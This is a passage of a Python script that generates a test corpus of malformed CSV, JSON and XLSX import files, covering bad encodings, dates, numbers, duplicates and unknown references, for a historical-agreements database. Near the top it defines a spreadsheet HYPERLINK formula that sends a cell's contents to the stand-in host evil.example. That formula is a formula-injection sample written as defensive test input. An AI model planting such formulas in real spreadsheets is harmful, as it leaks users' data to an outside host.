"""(Re)generate the corpus of malformed import files in tests/badfiles/corpus/ and its MANIFEST.json.

    .venv/bin/python tests/badfiles/make_corpus.py

Deterministic: the same bytes every run (XLSX workbooks are written by hand with fixed ZIP timestamps).
Every file is one the importer must refuse; MANIFEST.json says for each: its kind of record, its category,
what is wrong, where the problem is (`row` and `column`, null when the problem is the whole file) and a
fragment the problem's reason must contain. The references (parties CN and SU, the 1958 protocol, its
plans 1959 and 1960, projects 1-50, the academies) are the demo seed's records.
"""

from __future__ import annotations

import codecs
import json
import zipfile
from dataclasses import asdict, dataclass
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"

AGR = "Sino-Soviet Protocol on S&T Research (1958)"
CAS = "Chinese Academy of Sciences"
MSU = "Moscow State University"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass
class Case:
    file: str
    kind: str
    category: str
    wrong: str
    row: int | None
    column: str | None
    fragment: str


CASES: list[tuple[Case, bytes]] = []


def add(file: str, kind: str, category: str, wrong: str, data: bytes, *, row: Any, column: Any, fragment: str) -> None:
    assert all(c.file != file for c, _ in CASES), file
    CASES.append((Case(file, kind, category, wrong, row, column, fragment), data))


# --- builders ------------------------------------------------------------------------------------------


def csv(rows: list[list[str]] | str, encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    """CSV text with CRLF line ends; cells with the delimiter, quotes or line breaks are quoted."""
    if isinstance(rows, str):
        return rows.replace("\n", "\r\n").encode(encoding)
    lines = []
    for row in rows:
        cells = []
        for cell in row:
            if any(ch in cell for ch in (delimiter, '"', "\n", "\r")):
                cell = '"' + cell.replace('"', '""') + '"'
            cells.append(cell)
        lines.append(delimiter.join(cells))
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def _col(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        name = chr(65 + rem) + name
    return name


def _cell(ref: str, value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if isinstance(value, tuple):  # ("formula", "=A1+1"): a formula with no cached value
        return f'<c r="{ref}"><f>{escape(value[1].lstrip("="))}</f></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: list[list[Any]]) -> str:
    body = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(_cell(f"{_col(c)}{r}", v) for c, v in enumerate(row))
        body.append(f'<row r="{r}">{cells}</row>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(body)}</sheetData></worksheet>"
    )


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def zip_bytes(members: dict[str, bytes | str]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content.encode() if isinstance(content, str) else content)
    return out.getvalue()


def xlsx(rows: list[list[Any]] | None = None, *, sheet: bytes | str | None = None) -> bytes:
    """A minimal XLSX workbook with one sheet of `rows` (inline strings), or the given sheet XML."""
    return zip_bytes(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": _RELS,
            "xl/workbook.xml": _WORKBOOK,
            "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
            "xl/worksheets/sheet1.xml": sheet if sheet is not None else sheet_xml(rows or []),
        }
    )


def jsn(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False, indent=1).encode()


# --- the corpus ----------------------------------------------------------------------------------------


def encodings() -> None:
    cat = "wrong or mixed encoding"
    ru = "Академия наук СССР"
    add(
        "enc-cp1251-labelled-utf16.csv", "organisations", cat,
        "CP1251 bytes behind a UTF-16 BOM: the BOM says UTF-16, the text is CP1251",
        codecs.BOM_UTF16_LE + csv(f"name[ru],party\n{ru},SU\n", "cp1251"),
        row=2, column=None, fragment="not valid text in utf-16",
    )  # fmt: skip
    add(
        "enc-cp1251-labelled-utf8.csv", "people", cat,
        "CP1251 bytes behind a UTF-8 BOM",
        codecs.BOM_UTF8 + csv(f"external_id,name[ru]\nbad:1,{ru}\n", "cp1251"),
        row=2, column="name[ru]", fragment="not valid text in utf-8-sig",
    )  # fmt: skip
    add(
        "enc-cp1251-labelled-utf32.csv", "people", cat,
        "CP1251 bytes behind a UTF-32 BOM",
        codecs.BOM_UTF32_LE + csv(f"external_id,name[ru]\nbad:1,{ru}\n", "cp1251"),
        row=1, column=None, fragment="not valid text in utf-32",
    )  # fmt: skip
    add(
        "enc-cp1251-in-json-utf8-bom.json", "people", cat,
        "a JSON file with a UTF-8 BOM whose names are CP1251 bytes",
        codecs.BOM_UTF8 + json.dumps([{"name": {"ru": ru}}], ensure_ascii=False).encode("cp1251"),
        row=1, column=None, fragment="not valid text in utf-8-sig",
    )  # fmt: skip
    # 0x98 is the one byte CP1251 leaves undefined; 0x80 and 0xFF alone are not GB18030: no encoding reads it.
    add(
        "enc-latin1-undecodable.csv", "people", cat,
        "bytes (0x98, 0x80, 0xFF) that are neither UTF-8, GB18030 nor CP1251",
        b"external_id,name[en]\r\nbad:1,Ren\xe9\r\nbad:2,\x98\x80\xff\x98\r\n",
        row=3, column="name[en]", fragment="is not valid text in",
    )  # fmt: skip
    add(
        "enc-latin1-undecodable.json", "organisations", cat,
        "a JSON file holding bytes no supported encoding decodes",
        b'[{"name": {"en": "Soci\xe9t\xe9 \x98\x80\xff"}, "party": "SU"}]',
        row=1, column=None, fragment="is not valid text in",
    )  # fmt: skip
    # Mixed lines: no one decoding reads both, so the file is refused at the first cell that is not UTF-8.
    mixed = (
        b"agreement,project,organisation,role\r\n"
        + f"{AGR},7,中国科学院,partner\r\n".encode("gb18030")
        + f"{AGR},8,{CAS}（北京）,partner\r\n".encode()
    )
    add(
        "enc-mixed-utf8-gb18030-lines.csv", "participations", cat,
        "line 2 in GB18030, line 3 in UTF-8: decoded as one encoding, one of them would be mojibake",
        mixed, row=2, column="organisation", fragment="the file mixes encodings",
    )  # fmt: skip
    add(
        "enc-utf16-odd-length.csv", "people", cat,
        "a UTF-16 file cut in the middle of a character",
        csv("external_id,name[en]\nbad:1,Odd\n", "utf-16")[:-1],
        row=2, column=None, fragment="not valid text in utf-16",
    )  # fmt: skip


def boms() -> None:
    cat = "BOM"
    add(
        "bom-utf16-with-utf8-content.csv", "people", cat,
        "a UTF-16 LE BOM in front of UTF-8 text: read as UTF-16, the header is CJK gibberish",
        codecs.BOM_UTF16_LE + csv("external_id,name[en]\nbad:1,Ann\n"),
        row=2, column=None, fragment="not valid text in utf-16",
    )  # fmt: skip
    add(
        "bom-utf16be-with-utf8-content.csv", "organisations", cat,
        "a UTF-16 BE BOM in front of UTF-8 text",
        codecs.BOM_UTF16_BE + csv("name[en],party\nInstitute,CN\n"),
        row=1, column=None, fragment="is missing",
    )  # fmt: skip
    add(
        "bom-utf8-then-utf16.csv", "people", cat,
        "a double BOM: UTF-8's then UTF-16's",
        codecs.BOM_UTF8 + codecs.BOM_UTF16_LE + csv("external_id,name[en]\nbad:1,Ann\n"),
        row=1, column=None, fragment="not valid text in utf-8-sig",
    )  # fmt: skip
    add(
        "bom-utf16-then-utf8.csv", "people", cat,
        "a double BOM: UTF-16's then UTF-8's, then UTF-8 text",
        codecs.BOM_UTF16_LE + codecs.BOM_UTF8 + csv("external_id,name[en]\nbad:1,Ann\n"),
        row=1, column=None, fragment="the required column “name” is missing",
    )  # fmt: skip
    add(
        "bom-utf16-with-utf8-content.json", "people", cat,
        "a UTF-16 BOM in front of UTF-8 JSON",
        codecs.BOM_UTF16_LE + b'[{"external_id": "bad:1", "name": {"en": "Ann"}}]\n',
        row=None, column=None, fragment="the JSON cannot be read",
    )  # fmt: skip
    add(
        "bom-inside-header.csv", "people", cat,
        "a second file pasted under the first: its BOM and header in line 3",
        csv("external_id,name[en]\nbad:1,Ann\n\ufeffexternal_id,name[en]\nbad:2,Bob\n"),
        row=3, column=None, fragment="repeats the header row",
    )  # fmt: skip


def delimiters() -> None:
    cat = "delimiter"
    add(
        "delim-mixed-comma-semicolon.csv", "people", cat,
        "header separated by ';', the rows by ','",
        csv("external_id;name[en];party\nbad:1,Ann,CN\nbad:2,Bob,SU\n"),
        row=2, column="name[en]", fragment="is required",
    )  # fmt: skip
    add(
        "delim-mixed-semicolon-comma.csv", "organisations", cat,
        "header separated by ',', one row by ';'",
        csv("name[en],party\nInstitute A,CN\nInstitute B;SU\n"),
        row=3, column="party", fragment="is required",
    )  # fmt: skip
    add(
        "delim-pipe.csv", "people", cat,
        "a pipe-separated file: the header is one unknown column",
        csv("external_id|name[en]|party\nbad:1|Ann|CN\n"),
        row=1, column="external_id|name[en]|party", fragment="unknown column",
    )  # fmt: skip
    add(
        "delim-tab-header-comma-rows.csv", "organisations", cat,
        "a tab-separated header over comma-separated rows",
        csv("name[en]\tparty\tkind\nInstitute A,CN,institute\n"),
        row=2, column="party", fragment="is required",
    )  # fmt: skip
    add(
        "delim-unquoted-comma-in-name.csv", "organisations", cat,
        "a name with a comma, not quoted: one cell too many",
        csv("name[en],party\nInstitute of Physics, Beijing,CN\n"),
        row=2, column="party", fragment="not an ISO 3166",
    )  # fmt: skip
    add(
        "delim-pipe.json", "people", cat,
        "a pipe-separated CSV named .json",
        csv("external_id|name[en]\nbad:1|Ann\n"),
        row=None, column=None, fragment="the JSON cannot be read",
    )  # fmt: skip


MISSING = {
    "organisations": (["name[en]", "kind"], ["Institute", "institute"], "party"),
    "people": (["external_id", "orcid"], ["bad:1", ""], "name"),
    "agreements": (["reference", "kind"], ["X-1", "treaty"], "title"),
    "projects": (["agreement", "title[en]"], [AGR, "No number"], "number"),
    "participations": (["agreement", "project"], [AGR, "1"], "organisation"),
    "plan-items": (["agreement", "project"], [AGR, "1"], "plan"),
    "progress-reports": (
        ["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end"],
        [AGR, "1959", "1", CAS, "1959-01-01", "1959-12-31"],
        "status",
    ),
    "exchanges": (["agreement", "kind", "from_party"], [AGR, "conference", "CN"], "to_party"),
}


def columns() -> None:
    cat = "missing required column"
    for i, (kind, (header, row, missing)) in enumerate(MISSING.items()):
        name = f"missing-{kind}-{missing}"
        if i % 3 == 0:
            data, name = xlsx([header, row]), name + ".xlsx"
        elif i % 3 == 1:
            data, name = jsn([dict(zip(header, row, strict=True))]), name + ".json"
        else:
            data, name = csv([header, row]), name + ".csv"
        add(
            name, kind, cat, f"the required column {missing} is absent", data,
            row=1, column=None, fragment=f"“{missing}” is missing",
        )  # fmt: skip
    add(
        "missing-header-row.csv", "people", cat,
        "no header at all: the first row is data",
        csv("bad:1,Ann,CN\nbad:2,Bob,SU\n"),
        row=1, column="bad:1", fragment="unknown column",
    )  # fmt: skip
    add(
        "missing-blank-header.xlsx", "people", cat,
        "the first row of the sheet is empty, the header is in row 2",
        xlsx([[None, None], ["external_id", "name[en]"], ["bad:1", "Ann"]]),
        row=1, column=None, fragment="first row must be the header",
    )  # fmt: skip

    cat = "extra unknown column"
    extra = {
        "organisations": (["name[en]", "party", "colour"], ["Institute", "CN", "red"], "colour"),
        "people": (["name[en]", "phone"], ["Ann", "555"], "phone"),
        "agreements": (["title[en]", "signatory"], ["T", "Zhou Enlai"], "signatory"),
        "projects": (["agreement", "number", "title[en]", "budget"], [AGR, "901", "T", "100"], "budget"),
        "participations": (["agreement", "project", "organisation", "share"], [AGR, "1", CAS, "50%"], "share"),
        "plan-items": (["agreement", "plan", "project", "priority"], [AGR, "1959", "1", "high"], "priority"),
        "progress-reports": (
            ["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status", "mood"],
            [AGR, "1959", "1", CAS, "1959-01-01", "1959-12-31", "completed", "good"],
            "mood",
        ),
        "exchanges": (
            ["agreement", "kind", "from_party", "to_party", "cost"],
            [AGR, "conference", "CN", "SU", "10"],
            "cost",
        ),
    }
    for i, (kind, (header, row, unknown)) in enumerate(extra.items()):
        name = f"extra-{kind}-{unknown}"
        if i % 3 == 2:
            data, name = xlsx([header, row]), name + ".xlsx"
        elif i % 3 == 0:
            data, name = jsn([dict(zip(header, row, strict=True))]), name + ".json"
        else:
            data, name = csv([header, row]), name + ".csv"
        add(
            name, kind, cat, f"a column {unknown} no kind has", data,
            row=1, column=unknown, fragment="unknown column",
        )  # fmt: skip
    add(
        "extra-localized-without-language.csv", "people", cat,
        "a localized column without its language tag: name instead of name[en]",
        csv("external_id,name\nbad:1,Ann\n"),
        row=1, column="name", fragment="give the language in brackets",
    )  # fmt: skip
    add(
        "extra-bad-language-tag.csv", "agreements", cat,
        "a localized column with a tag that is not BCP 47",
        csv("title[en],title[english!]\nT,T\n"),
        row=1, column="title[english!]", fragment="not a BCP 47 language tag",
    )  # fmt: skip
    add(
        "extra-value-without-header.csv", "people", cat,
        "a row with more cells than the header has columns",
        csv("external_id,name[en]\nbad:1,Ann,surplus\n"),
        row=2, column=None, fragment="a value in a column without a (known) header",
    )  # fmt: skip
    add(
        "extra-value-without-header.xlsx", "organisations", cat,
        "a value in a sheet column with an empty header cell",
        xlsx([["name[en]", "party", None], ["Institute", "CN", "stray note"]]),
        row=2, column=None, fragment="a value in a column without a (known) header",
    )  # fmt: skip

    cat = "header repeated"
    add(
        "header-column-twice.csv", "people", cat,
        "the column name[en] twice in the header",
        csv("external_id,name[en],name[en]\nbad:1,Ann,Anne\n"),
        row=1, column="name[en]", fragment="repeats column 2",
    )  # fmt: skip
    add(
        "header-column-twice-by-label.csv", "organisations", cat,
        "the same column by key and by label (party, Party)",
        csv("name[en],party,Party\nInstitute,CN,CN\n"),
        row=1, column="Party", fragment="repeats column 2",
    )  # fmt: skip
    add(
        "header-column-twice.xlsx", "projects", cat,
        "the column number twice in a sheet",
        xlsx([["agreement", "number", "title[en]", "number"], [AGR, "901", "T", "902"]]),
        row=1, column="number", fragment="repeats column 2",
    )  # fmt: skip
    add(
        "header-row-repeated.csv", "organisations", cat,
        "the header row again under the first data row (two files concatenated)",
        csv("name[en],party\nInstitute A,CN\nname[en],party\nInstitute B,SU\n"),
        row=3, column=None, fragment="repeats the header row",
    )  # fmt: skip
    add(
        "header-row-repeated.xlsx", "exchanges", cat,
        "the header row repeated inside the sheet",
        xlsx(
            [
                ["agreement", "kind", "from_party", "to_party"],
                [AGR, "conference", "CN", "SU"],
                ["agreement", "kind", "from_party", "to_party"],
            ]
        ),
        row=3, column=None, fragment="repeats the header row",
    )  # fmt: skip


def dates() -> None:
    cat = "bad date"
    header = ["agreement", "number", "title[en]", "start_on"]
    add(
        "date-31-february.csv", "projects", cat, "31/02/1959: no such day",
        csv([header, [AGR, "901", "T", "01.02.1959"], [AGR, "902", "T", "31/02/1959"]]),
        row=3, column="start_on", fragment="31/02/1959",
    )  # fmt: skip
    add(
        "date-month-13.csv", "projects", cat, "1959-13-01: no month 13",
        csv([header, [AGR, "901", "T", "1959-13-01"]]),
        row=2, column="start_on", fragment="no such day",
    )  # fmt: skip
    add(
        "date-yesterday.csv", "organisations", cat, "“yesterday” as a founding date",
        csv([["name[en]", "party", "founded_on"], ["Institute", "CN", "yesterday"]]),
        row=2, column="founded_on", fragment="is not a date",
    )  # fmt: skip
    add(
        "date-29-february-1959.json", "agreements", cat, "1959-02-29: 1959 is no leap year",
        jsn([{"title": {"en": "T"}, "signed_on": "1959-02-29"}]),
        row=1, column="signed_on", fragment="no such day",
    )  # fmt: skip
    add(
        "date-us-order.csv", "exchanges", cat, "12/25/1959: month first",
        csv([["agreement", "kind", "from_party", "to_party", "start_on"],
             [AGR, "conference", "CN", "SU", "12/25/1959"]]),
        row=2, column="start_on", fragment="no such day",
    )  # fmt: skip
    add(
        "date-two-digit-year.csv", "exchanges", cat, "01.03.59: a two-digit year",
        csv([["agreement", "kind", "from_party", "to_party", "sent_on"], [AGR, "conference", "CN", "SU", "01.03.59"]]),
        row=2, column="sent_on", fragment="is not a date",
    )  # fmt: skip
    add(
        "date-zero.xlsx", "projects", cat, "00.00.0000",
        xlsx([header, [AGR, "901", "T", "00.00.0000"]]),
        row=2, column="start_on", fragment="no such day",
    )  # fmt: skip
    add(
        "date-as-serial-number.xlsx", "projects", cat, "a number where a date is expected (no date format)",
        xlsx([header, [AGR, "901", "T", 21916]]),
        row=2, column="start_on", fragment="“21916” is not a date",
    )  # fmt: skip
    add(
        "date-as-number.json", "organisations", cat, "a date given as the JSON number 19590101",
        jsn([{"name": {"en": "Institute"}, "party": "CN", "founded_on": 19590101}]),
        row=1, column="founded_on", fragment="is not a date",
    )  # fmt: skip
    add(
        "date-end-before-start.csv", "projects", cat, "the project ends before it starts",
        csv([[*header, "end_on"], [AGR, "901", "T", "1960-05-01", "1959-01-01"]]),
        row=2, column="end_on", fragment="must not be before the start",
    )  # fmt: skip
    rep = ["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status"]
    add(
        "date-period-words.json", "progress-reports", cat, "“Q1 1959” as the start of a period",
        jsn([dict(zip(rep, [AGR, "1959", "4", CAS, "Q1 1959", "1959-03-31", "on_track"], strict=True))]),
        row=1, column="period_start", fragment="is not a date",
    )  # fmt: skip
    add(
        "date-dissolved-before-founded.xlsx", "organisations", cat, "dissolved before it was founded",
        xlsx([["name[en]", "party", "founded_on", "dissolved_on"], ["Institute", "SU", "1960-01-01", "1950-01-01"]]),
        row=2, column="dissolved_on", fragment="must not be before the founding date",
    )  # fmt: skip
    add(
        "date-plan-period-bad.csv", "plan-items", cat, "a plan named by an impossible period",
        csv([["agreement", "plan", "project"], [AGR, "1959-02-30/1959-12-31", "1"]]),
        row=2, column="plan", fragment="no such day",
    )  # fmt: skip


def numbers() -> None:
    cat = "bad number"
    rep = ["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status", "percent"]
    base = [AGR, "1959", "4", "Tsinghua University", "1959-01-01", "1959-06-30", "on_track"]
    add(
        "num-percent-150.csv", "progress-reports", cat, "150 percent done",
        csv([rep, [*base, "150"]]),
        row=2, column="percent", fragment="100",
    )  # fmt: skip
    add(
        "num-percent-many.csv", "progress-reports", cat, "“many” as the percent done",
        csv([rep, [*base, "many"]]),
        row=2, column="percent", fragment="is not a whole number",
    )  # fmt: skip
    add(
        "num-percent-negative.xlsx", "progress-reports", cat, "-5 percent done",
        xlsx([rep, [*base, -5]]),
        row=2, column="percent", fragment="greater than or equal to 0",
    )  # fmt: skip
    add(
        "num-percent-fraction.json", "progress-reports", cat, "50.5 percent (the column is whole numbers)",
        jsn([dict(zip(rep, [*base, 50.5], strict=True))]),
        row=1, column="percent", fragment="is not a whole number",
    )  # fmt: skip
    add(
        "num-percent-boolean.json", "progress-reports", cat, "true as the percent done",
        jsn([dict(zip(rep, [*base, True], strict=True))]),
        row=1, column="percent", fragment="is not a whole number",
    )  # fmt: skip
    add(
        "num-completed-not-100.csv", "progress-reports", cat, "completed yet 55 percent done",
        csv([rep, [*base[:-1], "completed", "55"]]),
        row=2, column="percent", fragment="100% done",
    )  # fmt: skip
    ex = ["agreement", "kind", "from_party", "to_party", "quantity", "unit"]
    add(
        "num-quantity-many.csv", "exchanges", cat, "“many” as a quantity",
        csv([ex, [AGR, "sample_shipment", "SU", "CN", "many", "samples"]]),
        row=2, column="quantity", fragment="is not a number",
    )  # fmt: skip
    add(
        "num-quantity-negative.csv", "exchanges", cat, "a negative quantity",
        csv([ex, [AGR, "sample_shipment", "SU", "CN", "-3", "samples"]]),
        row=2, column="quantity", fragment="greater than or equal to 0",
    )  # fmt: skip
    add(
        "num-quantity-infinity.xlsx", "exchanges", cat, "“Infinity” as a quantity",
        xlsx([ex, [AGR, "sample_shipment", "SU", "CN", "Infinity", "samples"]]),
        row=2, column="quantity", fragment="is not a number",
    )  # fmt: skip
    add(
        "num-quantity-nan.json", "exchanges", cat, "NaN (JSON extension) as a quantity",
        b'[{"agreement": "' + AGR.encode() + b'", "kind": "data_transfer", "from_party": "SU", '
        b'"to_party": "CN", "quantity": NaN}]',
        row=1, column="quantity", fragment="is not a number",
    )  # fmt: skip
    add(
        "num-quantity-too-many-digits.csv", "exchanges", cat, "a quantity of 1e15 (more digits than stored)",
        csv([ex, [AGR, "data_transfer", "SU", "CN", "1e15", "documents"]]),
        row=2, column="quantity", fragment="no more than 12 digits",
    )  # fmt: skip
    add(
        "num-quantity-thousands-separators.csv", "exchanges", cat, "1,234.50 (both separators)",
        csv([ex, [AGR, "data_transfer", "SU", "CN", "1,234.50", "documents"]]),
        row=2, column="quantity", fragment="is not a number",
    )  # fmt: skip
    add(
        "num-position-two.csv", "plan-items", cat, "“two” as an item number",
        csv([["agreement", "plan", "project", "position"], [AGR, "1959", "1", "two"]]),
        row=2, column="position", fragment="is not a whole number",
    )  # fmt: skip
    add(
        "num-position-decimal.xlsx", "plan-items", cat, "2.5 as an item number",
        xlsx([["agreement", "plan", "project", "position"], [AGR, "1959", "1", 2.5]]),
        row=2, column="position", fragment="is not a whole number",
    )  # fmt: skip


def duplicates() -> None:
    cat = "duplicate key"
    add(
        "dup-external-id.csv", "people", cat, "external_id p:1 on rows 2 and 4",
        csv("external_id,name[en]\nbad:1,A\nbad:2,B\nbad:1,C\n"),
        row=4, column="external_id", fragment="describes the same record as row 2",
    )  # fmt: skip
    add(
        "dup-external-id.json", "organisations", cat, "the same external_id twice",
        jsn([{"external_id": "o:1", "name": {"en": "A"}, "party": "CN"},
             {"external_id": "o:1", "name": {"en": "B"}, "party": "CN"}]),
        row=2, column="external_id", fragment="describes the same record as row 1",
    )  # fmt: skip
    add(
        "dup-external-id.xlsx", "agreements", cat, "the same external_id twice",
        xlsx([["external_id", "title[en]"], ["a:1", "One"], ["a:1", "Two"]]),
        row=3, column="external_id", fragment="describes the same record as row 2",
    )  # fmt: skip
    uid = "6f1c1d0e-2b7a-4c55-9a43-0d2f0d6b2f11"
    add(
        "dup-uid.csv", "people", cat, "the same Accord id twice",
        csv(f"uid,name[en]\n{uid},A\n{uid},B\n"),
        row=3, column="uid", fragment="describes the same record as row 2",
    )  # fmt: skip
    add(
        "dup-project-number.csv", "projects", cat, "project number 901 twice in one agreement",
        csv([["agreement", "number", "title[en]"], [AGR, "901", "A"], [AGR, "901", "B"]]),
        row=3, column=None, fragment="describes the same record as row 2",
    )  # fmt: skip
    add(
        "dup-project-number.xlsx", "projects", cat, "project number 1 (stored) twice",
        xlsx([["agreement", "number", "title[en]"], [AGR, "1", "A"], [AGR, "1", "B"]]),
        row=3, column=None, fragment="describes the same record as row 2",
    )  # fmt: skip
    add(
        "dup-project-number-new-ids.csv", "projects", cat, "two new projects with distinct external ids, one number",
        csv([["external_id", "agreement", "number", "title[en]"], ["p:1", AGR, "901", "A"], ["p:2", AGR, "901", "B"]]),
        row=3, column="number", fragment="has the same agreement, number as row 2",
    )  # fmt: skip
    add(
        "dup-participation.csv", "participations", cat, "the same organisation twice in one project",
        csv([["agreement", "project", "organisation"], [AGR, "9", MSU], [AGR, "9", MSU]]),
        row=3, column=None, fragment="describes the same record as row 2",
    )  # fmt: skip
    add(
        "dup-plan-item.json", "plan-items", cat, "project 1 twice in the 1959 plan",
        jsn([{"agreement": AGR, "plan": "1959", "project": "1"}, {"agreement": AGR, "plan": "1959", "project": "1"}]),
        row=2, column=None, fragment="describes the same record as row 1",
    )  # fmt: skip
    rep = ["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status"]
    add(
        "dup-progress-report.csv", "progress-reports", cat, "the same report (item, organisation, period) twice",
        csv([rep, [AGR, "1959", "4", "Tsinghua University", "1959-01-01", "1959-06-30", "on_track"],
             [AGR, "1959", "4", "Tsinghua University", "1959-01-01", "1959-06-30", "delayed"]]),
        row=3, column=None, fragment="describes the same record as row 2",
    )  # fmt: skip
    add(
        "dup-orcid.csv", "people", cat, "two new people with the same ORCID iD",
        csv("external_id,name[en],orcid\nbad:1,A,0000-0002-1825-0097\nbad:2,B,0000-0002-1825-0097\n"),
        row=3, column="orcid", fragment="has the same orcid as row 2",
    )  # fmt: skip
    add(
        "dup-organisation-name.csv", "organisations", cat, "the same new organisation (party and name) twice",
        csv("name[en],party\nInstitute of Peat,SU\nInstitute of Peat,SU\n"),
        row=3, column=None, fragment="describes the same record as row 2",
    )  # fmt: skip


def references() -> None:
    cat = "unknown reference"
    add(
        "ref-party-xx.csv", "organisations", cat, "party code XX",
        csv("name[en],party\nInstitute,XX\n"),
        row=2, column="party", fragment="not an ISO 3166",
    )  # fmt: skip
    add(
        "ref-party-fr.xlsx", "people", cat, "party FR: a country, not a party of the agreement",
        xlsx([["name[en]", "party"], ["Jean", "FR"]]),
        row=2, column="party", fragment="no party with code “FR”",
    )  # fmt: skip
    add(
        "ref-parties-list-unknown.csv", "agreements", cat, "one unknown code in a list of parties",
        csv([["title[en]", "parties"], ["T", "CN; SU; XX"]]),
        row=2, column="parties", fragment="XX",
    )  # fmt: skip
    add(
        "ref-organisation-unknown.csv", "participations", cat, "an organisation Accord does not know",
        csv([["agreement", "project", "organisation"], [AGR, "1", "Institute of Nowhere"]]),
        row=2, column="organisation", fragment="no organisation “Institute of Nowhere”",
    )  # fmt: skip
    add(
        "ref-organisation-unknown.json", "progress-reports", cat, "an unknown reporting organisation",
        jsn([{"agreement": AGR, "plan": "1959", "project": "1", "reporting_organisation": "Institute of Nowhere",
              "period_start": "1959-01-01", "period_end": "1959-12-31", "status": "completed"}]),
        row=1, column="reporting_organisation", fragment="no organisation",
    )  # fmt: skip
    add(
        "ref-parent-organisation-unknown.csv", "organisations", cat, "an unknown parent organisation",
        csv("name[en],party,parent\nInstitute,CN,Academy of Nowhere\n"),
        row=2, column="parent", fragment="no organisation",
    )  # fmt: skip
    add(
        "ref-project-not-in-agreement.csv", "participations", cat, "project 999: not in the agreement",
        csv([["agreement", "project", "organisation"], [AGR, "999", CAS]]),
        row=2, column="project", fragment="no project number “999”",
    )  # fmt: skip
    add(
        "ref-project-not-in-agreement.xlsx", "plan-items", cat, "project 999 in the 1959 plan",
        xlsx([["agreement", "plan", "project"], [AGR, "1959", "999"]]),
        row=2, column="project", fragment="no project number “999”",
    )  # fmt: skip
    add(
        "ref-project-not-in-agreement.json", "exchanges", cat, "an exchange for project 999",
        jsn([{"agreement": AGR, "project": "999", "kind": "conference", "from_party": "CN", "to_party": "SU"}]),
        row=1, column="project", fragment="no project number “999”",
    )  # fmt: skip
    add(
        "ref-project-without-agreement.csv", "participations", cat,
        "the agreement cell empty: the project cannot be found",
        csv([["agreement", "project", "organisation"], ["", "1", CAS]]),
        row=2, column="agreement", fragment="is required",
    )  # fmt: skip
    add(
        "ref-agreement-unknown.csv", "projects", cat, "an agreement Accord does not know",
        csv([["agreement", "number", "title[en]"], ["Treaty of Nowhere", "1", "T"]]),
        row=2, column="agreement", fragment="no agreement “Treaty of Nowhere”",
    )  # fmt: skip
    add(
        "ref-parent-agreement-unknown.xlsx", "agreements", cat, "an unknown parent agreement",
        xlsx([["title[en]", "parent"], ["T", "Treaty of Nowhere"]]),
        row=2, column="parent", fragment="no agreement",
    )  # fmt: skip
    add(
        "ref-plan-1961.csv", "plan-items", cat, "a plan for 1961, which does not exist",
        csv([["agreement", "plan", "project"], [AGR, "1961", "1"]]),
        row=2, column="plan", fragment="no plan for “1961”",
    )  # fmt: skip
    add(
        "ref-plan-unknown-uid.csv", "progress-reports", cat, "a plan by a global id nothing has",
        csv([["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status"],
             [AGR, "0b7e6e3a-7d4b-4f0e-8a45-3b1f9a2c1d00", "1", CAS, "1959-01-01", "1959-12-31", "completed"]]),
        row=2, column="plan", fragment="no plan with the global id",
    )  # fmt: skip
    add(
        "ref-project-not-in-plan.csv", "progress-reports", cat, "a report on a project the 1960 plan lacks",
